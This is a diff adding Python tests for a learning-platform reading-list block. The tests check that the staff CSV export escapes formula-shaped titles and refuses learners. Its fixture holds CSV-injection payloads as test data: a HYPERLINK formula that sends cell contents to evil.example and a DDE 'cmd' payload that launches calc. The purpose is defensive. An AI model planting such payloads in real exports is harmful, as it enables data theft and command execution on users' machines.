@@ -188,3 +188,74 @@ def test_student_view_writes_nothing(reading):
     reading.html("peserta_a")
     reading.html("staff")
     assert not ReadingActivity.objects.exists() and not Bookmark.objects.exists()
+
+
+FORMULA_LIST_XML = """
+<kemenag_resources url_name="bacaan_rumus" display_name="Ruang Baca: rumus">
+  <item id="rumus1" kind="link" url="https://jurnal.contoh.invalid/view/1" required="true">
+    <title>=HYPERLINK("https://evil.example/?d="&amp;A1,"Klik")</title>
+  </item>
+  <item id="rumus2" kind="link" url="https://jurnal.contoh.invalid/view/2">
+    <title>+cmd|' /C calc'!A0</title>
+  </item>
+  <item id="biasa" kind="link" url="https://jurnal.contoh.invalid/view/3">
+    <title>@SUM(1+1) dan -2+3: Moderasi</title>
+  </item>
+  <item id="sepi" kind="link" url="https://jurnal.contoh.invalid/view/4"><title>Tidak dibuka</title></item>
+</kemenag_resources>
+"""
+
+
+def test_the_trainers_csv_through_the_export_handler_as_the_lms_calls_it(client, scenario):
+    """GET on the block's handler URL as course staff: one line per learner and item they opened,
+    the counts the report shows, every formula-shaped title made text by the common CSV writer."""
+    from tests.resources.conftest import Calls
+
+    reading = Calls(client, scenario(FORMULA_LIST_XML))
+    opened = [("peserta_a", "rumus1"), ("peserta_a", "rumus1"), ("peserta_a", "biasa"), ("peserta_b", "rumus2")]
+    for student, item in opened:
+        assert reading.get(student, "open", f"item={item}").status_code == 303
+    assert reading.json("peserta_a", "mark_read", {"item": "rumus1"}).status_code == 200
+    assert reading.json("peserta_b", "mark_read", {"item": "biasa"}).status_code == 200  # read without opening
+
+    response = reading.get("staff", "export_reading")
+
+    assert response.status_code == 200
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    # The usage key's block id in the LMS; the workbench's string usage ids have none ("daftar").
+    assert re.fullmatch(r'attachment; filename="bacaan-[\w.-]+\.csv"', response["Content-Disposition"])
+    assert response["Cache-Control"] == "private, no-store" and response["X-Content-Type-Options"] == "nosniff"
+    content = b"".join(response.streaming_content if response.streaming else [response.content]).decode("utf-8")
+    header, *rows = list(csv.reader(io.StringIO(content)))
+    assert header == ["item", "title", "required", "learner", "opened_times", "first_opened", "read_at"]
+    assert [(r[0], r[1], r[2], r[3], r[4]) for r in rows] == [
+        ("biasa", "'@SUM(1+1) dan -2+3: Moderasi", "no", "peserta_a", "1"),
+        ("rumus1", '\'=HYPERLINK("https://evil.example/?d="&A1,"Klik")', "yes", "peserta_a", "2"),
+        ("biasa", "'@SUM(1+1) dan -2+3: Moderasi", "no", "peserta_b", "0"),
+        ("rumus2", "'+cmd|' /C calc'!A0", "no", "peserta_b", "1"),
+    ]
+    read = {(r[3], r[0]): r[6] for r in rows}
+    assert read[("peserta_a", "rumus1")] and read[("peserta_b", "biasa")]
+    assert not read[("peserta_a", "biasa")] and not read[("peserta_b", "rumus2")]
+    assert all(r[5] for r in rows if r[4] != "0") and all(not r[5] for r in rows if r[4] == "0")
+    # The same counts as the staff report, per item; the item nobody opened has no line.
+    report = {row["id"]: (row["opened"], row["read"]) for row in body(reading.json("staff", "reading_report"))["items"]}
+    from_csv = {
+        item: (sum(1 for r in rows if r[0] == item and r[4] != "0"), sum(1 for r in rows if r[0] == item and r[6]))
+        for item in report
+    }
+    assert from_csv == report == {"rumus1": (1, 1), "rumus2": (1, 0), "biasa": (1, 1), "sepi": (0, 0)}
+    # No cell a spreadsheet would evaluate.
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
+def test_a_learner_asking_for_the_csv_is_refused_and_gets_no_rows(client, scenario):
+    from tests.resources.conftest import Calls
+
+    reading = Calls(client, scenario(FORMULA_LIST_XML))
+    reading.get("peserta_a", "open", "item=rumus1")
+    response = reading.get("peserta_a", "export_reading")
+    assert response.status_code == 403
+    assert not response["Content-Type"].startswith("text/csv")
+    assert body(response)["code"] == "staff_only"
+    assert b"peserta_a" not in response.content and b"HYPERLINK" not in response.content
